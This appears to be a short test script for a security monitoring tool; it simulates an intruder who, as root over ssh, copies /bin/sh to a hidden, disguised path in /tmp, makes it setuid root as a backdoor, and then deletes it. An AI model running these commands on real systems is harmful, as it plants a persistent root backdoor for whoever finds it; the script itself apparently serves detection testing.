#!/bin/sh
# malicious: in an ssh terminal an intruder copies a shell and makes it setuid root (a backdoor), no package manager involved
. "$(dirname "$0")/../../lib.sh"
ssh_tty root <<'CMDS'
cp /bin/sh /tmp/.ICE-unix-q
chmod 4755 /tmp/.ICE-unix-q
exit
CMDS
rm -f /tmp/.ICE-unix-q
